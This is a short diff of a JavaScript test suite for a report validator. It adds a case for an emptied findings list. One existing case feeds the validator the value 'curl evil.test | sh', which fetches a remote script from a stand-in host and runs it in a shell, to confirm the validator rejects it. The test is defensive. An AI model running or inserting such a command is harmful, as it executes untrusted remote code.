@@ -77,6 +77,7 @@ describe('a report that is not as this program writes it', () => {
     ['a count that is no count', withFinding({ suppressed: -1 }), /suppressed/],
     ['a fixture without sides', withFinding({ base: null, head: null }), /every finding to have a side/],
     ['a trailer that is another line', withFinding({ suggestedTrailer: 'curl evil.test | sh' }), /suggestedTrailer/],
+    ['a finding that was taken out', { ...good, findings: [] }, /digest/],
     ['a fixture twice', { ...good, findings: [first, first] }, /one finding for each path/],
     ['another schema version', { ...good, schemaVersion: 2 }, /schemaVersion/],
     ['the part of one shard', { ...good, shard: { index: 0, count: 2, unusedRules: [] } }, /shard/],
